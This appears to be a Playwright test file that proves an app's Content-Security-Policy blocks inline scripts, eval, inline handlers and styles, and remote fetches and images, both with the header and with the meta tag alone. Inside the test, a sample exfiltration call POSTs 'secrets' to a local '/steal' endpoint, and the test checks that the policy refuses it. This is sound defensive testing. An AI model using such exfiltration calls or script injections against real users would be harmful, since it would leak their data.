// The window's Content-Security-Policy, proven in real Chromium on the built renderer: inline script,
// eval, inline styles and event handlers, remote connections and remote images are all refused. Twice:
// as the bridge serves the page (header and meta tag), and with the header stripped, so the meta tag of
// the built index.html is the only policy — which is how the app loads its page from file://.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, test } from './support/fixtures.ts';
import {
  CONTENT_SECURITY_POLICY,
  CONTENT_SECURITY_POLICY_FOR_META,
} from '../../shared/ipc/contentSecurityPolicy.ts';

// Each refusal below is provoked on purpose; Chromium reports it on the console. Nothing else may appear.
// (An array option is given as [value, options], or Playwright would read the array itself that way.)
test.use({
  expectedConsoleErrors: [
    [
      /^console\.error: (Executing inline script|Evaluating a string as JavaScript|Executing inline event handler|Applying inline style|Connecting to 'http:\/\/127\.0\.0\.1:\d+\/steal'|Loading the image 'http:\/\/127\.0\.0\.1:\d+\/pixel\.png') violates the following Content Security Policy directive/,
      /^console\.error: Fetch API cannot load http:\/\/127\.0\.0\.1:\d+\/steal\. Refused to connect because it violates the document's Content Security Policy/,
      /CSP violation: (script-src|script-src-elem|script-src-attr|connect-src|style-src|style-src-elem|img-src) refused/,
    ],
    { scope: 'test' },
  ],
});

/** A server outside the page's origin that counts the requests it gets: none must arrive. */
let outside: Server;
let outsideUrl = '';
let outsideRequests = 0;
test.beforeAll(async () => {
  outside = createServer((_req, res) => {
    outsideRequests++;
    res.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'image/png' });
    res.end();
  });
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  outsideUrl = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
});
test.afterAll(async () => {
  await new Promise((resolve) => outside.close(resolve));
});

/** What the page could do that the policy must stop, each tried in the page itself. */
async function tryForbiddenThings(page: Page, remote: string) {
  return page.evaluate(async (remoteUrl) => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const w = window as unknown as Record<string, unknown>;

    const script = document.createElement('script');
    script.textContent = 'window.__inlineRan = true';
    document.body.append(script);

    // Code handed over by Playwright runs as DevTools code, which Chromium lets call eval; a string
    // timer runs later as the page's own code, where 'unsafe-eval' decides.
    const setTimeoutWithString = setTimeout as unknown as (code: string, ms: number) => void;
    setTimeoutWithString('window.__stringTimerRan = true', 0);

    const handler = document.createElement('div');
    handler.setAttribute('onclick', 'window.__handlerRan = true');
    document.body.append(handler);
    handler.click();

    const style = document.createElement('style');
    style.textContent = '#pd-csp-probe { width: 123px; }';
    document.head.append(style);
    const probe = document.createElement('div');
    probe.id = 'pd-csp-probe';
    document.body.append(probe);

    let fetchResult = 'answered';
    try {
      await fetch(`${remoteUrl}/steal`, { method: 'POST', body: 'secrets' });
    } catch (e) {
      fetchResult = (e as Error).name;
    }

    const img = new Image();
    const imgResult = await new Promise<string>((resolve) => {
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = `${remoteUrl}/pixel.png`;
    });

    // Violation events are dispatched asynchronously.
    await new Promise((r) => setTimeout(r, 200));
    return {
      inlineScriptRan: w.__inlineRan === true,
      stringTimerRan: w.__stringTimerRan === true,
      handlerRan: w.__handlerRan === true,
      inlineStyleApplied: probe.getBoundingClientRect().width === 123,
      fetchResult,
      imgResult,
      violations: [...new Set(violations)].sort(),
    };
  }, remote);
}

const REFUSED_EVERYTHING = {
  inlineScriptRan: false,
  stringTimerRan: false,
  handlerRan: false,
  inlineStyleApplied: false,
  fetchResult: 'TypeError',
  imgResult: 'blocked',
};

test.describe('security: the window’s Content-Security-Policy in Chromium', () => {
  test('the page carries the policy as a header and in its meta tag', async ({ page }) => {
    const response = await page.goto('/');
    expect(response?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    await expect(page.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
      'content',
      CONTENT_SECURITY_POLICY_FOR_META,
    );
  });

  test('refuses inline script, eval, inline styles and handlers, remote fetches and images', async ({
    page,
  }) => {
    await page.goto('/');
    await expect(page.getByRole('heading', { name: 'Inbox' })).toBeVisible();
    const before = outsideRequests;
    const result = await tryForbiddenThings(page, outsideUrl);
    expect(result).toMatchObject(REFUSED_EVERYTHING);
    expect(result.violations).toEqual(
      expect.arrayContaining([
        'connect-src',
        'img-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
      ]),
    );
    expect(outsideRequests, 'no request left the page').toBe(before);
  });

  test('the meta tag alone refuses the same, as when the app loads the page from file://', async ({
    page,
  }) => {
    // Strip the header from the page's response: only the built index.html's own policy is left.
    await page.route(
      (url) => url.pathname === '/' || url.pathname.endsWith('.html'),
      async (route) => {
        const response = await route.fetch();
        const headers = { ...response.headers() };
        delete headers['content-security-policy'];
        await route.fulfill({ response, headers });
      },
    );
    const response = await page.goto('/');
    expect(response?.headers()['content-security-policy']).toBeUndefined();
    await expect(page.getByRole('heading', { name: 'Inbox' })).toBeVisible();
    const before = outsideRequests;
    expect(await tryForbiddenThings(page, outsideUrl)).toMatchObject(REFUSED_EVERYTHING);
    expect(outsideRequests, 'no request left the page').toBe(before);
  });
});
